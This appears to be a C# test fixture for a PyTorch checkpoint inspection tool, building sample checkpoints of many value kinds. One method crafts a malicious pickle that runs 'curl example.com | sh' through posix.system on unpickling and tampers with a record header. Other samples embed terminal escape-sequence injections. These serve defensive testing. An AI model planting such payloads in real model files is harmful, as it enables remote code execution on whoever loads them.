using System.Numerics;

namespace Torchkeep.Cli.Tests;

/// <summary>Objects to save and look at.</summary>
internal static class Samples
{
    /// <summary>A checkpoint with a state_dict, an optimizer and a view.</summary>
    internal static PyDict Training()
    {
        var weight = TensorView.FromArray(new float[12], ElementType.Float32, 3, 4);
        var bias = TensorView.FromArray(new float[3], ElementType.Float32, 3);
        var metadata = new PyDict(isOrdered: true) { { "", new PyDict { { "version", 1 } } }, { "fc", new PyDict { { "version", 1 } } } };
        return new()
        {
            { "epoch", 7 },
            {
                "model", new PyDict(isOrdered: true)
                {
                    { "fc.weight", weight },
                    { "fc.bias", bias },
                    { "head.weight", new TensorView(weight.Storage, ElementType.Float32, [4, 3], [1, 4]) },
                }.With(metadata)
            },
            {
                "optimizer", new PyDict
                {
                    { "state", new PyDict { { 0, new PyDict { { "step", 100.0 }, { "exp_avg", TensorView.FromArray(new float[12], ElementType.Float32, 3, 4) } } } } },
                    { "param_groups", new PyList(new PyDict { { "lr", 0.001 }, { "betas", new PyTuple(0.9, 0.999) }, { "params", new PyList(0, 1) } }) },
                }
            },
        };
    }

    /// <summary>A linear layer that was saved whole.</summary>
    internal static PyObject Module() => new(PyObjectKind.New, new PyGlobal("torch.nn.modules.linear", "Linear"), PyTuple.Empty)
    {
        State = new PyDict
        {
            { "training", true },
            {
                "_parameters", new PyDict
                {
                    { "weight", new PyTensor(TensorView.FromArray(new float[6], ElementType.Float32, 3, 2), requiresGrad: true, isParameter: true) },
                    { "bias", new PyTensor(TensorView.FromArray(new float[3], ElementType.Float32, 3), requiresGrad: true, isParameter: true) },
                }
            },
            { "_buffers", new PyDict() },
            { "_modules", new PyDict() },
        },
    };

    /// <summary>Every kind of value.</summary>
    internal static PyDict EveryKind()
    {
        var shared = TensorStorage.FromArray(new float[] { 1, 2, 3, 4, 5, 6 });
        var parameter = new PyTensor(new(shared, ElementType.Float32, [2, 3]), requiresGrad: true, isParameter: true);
        var gpu = new TensorStorage(TensorStorage.FromArray(new byte[8]).Bytes, "cuda:0");
        var list = new PyList(1, "two");
        return new()
        {
            { "none", PyNone.Value },
            { "truth", true },
            { "int", 42 },
            { "long", PyInt.From(BigInteger.Pow(2, 80)) },
            { "float", 1e-8 },
            { "nan", double.NaN },
            { "complex", new PyComplex(new(1, -2)) },
            { "text", "it's [red]plain[/]" },
            { "long text", new string('x', 300) },
            { "bytes", new PyBytes([0, 255, 65]) },
            { "bytearray", new PyBytes([65], isByteArray: true) },
            { "list", list },
            { "same list", list },
            { "tuple", new PyTuple(1) },
            { "many", new PyList(Enumerable.Range(0, 161).Select(i => (PyValue)i)) },
            { "set", SetOf(1, 2) },
            { "empty", new PyTuple(new PyList(), PyTuple.Empty, new PyDict(), new PyDict(isOrdered: true), new PySet()) },
            { "nested", new PyList(new PyTuple(1, new PyDict { { "a", new PyList(2) } })) },
            { 3, "under an int" },
            { new PyTuple(1, 2), "under a tuple" },
            { "esc\x1b[31m", "under an escape" },
            { "global", new PyGlobal("torch", "float16") },
            { "record", new PyObject(PyObjectKind.New, new PyGlobal("models", "Net\x1b]0;evil\a"), PyTuple.Empty) { State = new PyDict { { "training", true }, { "weight", parameter } } } },
            { "call", new PyObject(PyObjectKind.Call, new PyGlobal("torch", "device"), new PyTuple("cuda", 0)) },
            { "parameter", parameter },
            { "row", new TensorView(shared, ElementType.Float32, [3], [1], 3) },
            { "transposed", new TensorView(shared, ElementType.Float32, [3, 2], [1, 3]) },
            { "expanded", new TensorView(TensorStorage.FromArray(new long[] { 5 }), ElementType.Int64, [1000], [0]) },
            { "scalar", TensorView.FromArray(new double[] { 0.5 }, ElementType.Float64) },
            { "nothing", TensorView.FromArray(Array.Empty<int>(), ElementType.Int32, 0, 3) },
            { "half", TensorView.FromArray(new ushort[4], ElementType.BFloat16, 2, 2) },
            { "gpu", new TensorView(gpu, ElementType.UInt8, [8]) },
        };
    }

    /// <summary>A state_dict of many layers.</summary>
    internal static PyDict Layers(int count)
    {
        var layers = new PyDict(isOrdered: true);
        for (var i = 0; i < count; i++)
        {
            layers.Add($"layers.{i}.weight", TensorView.FromArray(new float[4], ElementType.Float32, 2, 2));
        }

        return layers;
    }

    /// <summary>A checkpoint that runs a command when Python unpickles it, and a record that says other than its header.</summary>
    internal static string Evil(TemporaryFolder folder)
    {
        var path = Path.Combine(folder.Path, "evil.pt");
        var call = new PyObject(PyObjectKind.Call, new PyGlobal("posix", "system"), new PyTuple("curl example.com | sh"));
        Checkpoint.Save(new PyDict { { "weight", TensorView.FromArray(new float[2], ElementType.Float32, 2) }, { "hook", call }, { "net", new PyObject(PyObjectKind.New, new PyGlobal("models", "Net"), PyTuple.Empty) } }, path);

        // The first letter of the record's name, in front of its bytes alone.
        var bytes = File.ReadAllBytes(path);
        bytes[bytes.AsSpan().IndexOf("evil/version"u8)] = (byte)'E';
        File.WriteAllBytes(path, bytes);
        return path;
    }

    /// <summary>The checkpoint with one bit of its first storage flipped.</summary>
    internal static string Damaged(TemporaryFolder folder)
    {
        var path = Path.Combine(folder.Path, "damaged.pt");
        Checkpoint.Save(Training(), path);
        var bytes = File.ReadAllBytes(path);
        var record = "damaged/data/0"u8;
        var name = bytes.AsSpan().IndexOf(record);
        bytes[name + record.Length + BitConverter.ToUInt16(bytes, name - 2)] ^= 1;
        File.WriteAllBytes(path, bytes);
        return path;
    }

    internal static PySet SetOf(params ReadOnlySpan<PyValue> items)
    {
        var set = new PySet();
        foreach (var item in items)
        {
            set.Add(item);
        }

        return set;
    }

    private static PyDict With(this PyDict dict, PyDict metadata)
    {
        dict.Attributes = new() { { "_metadata", metadata } };
        return dict;
    }
}
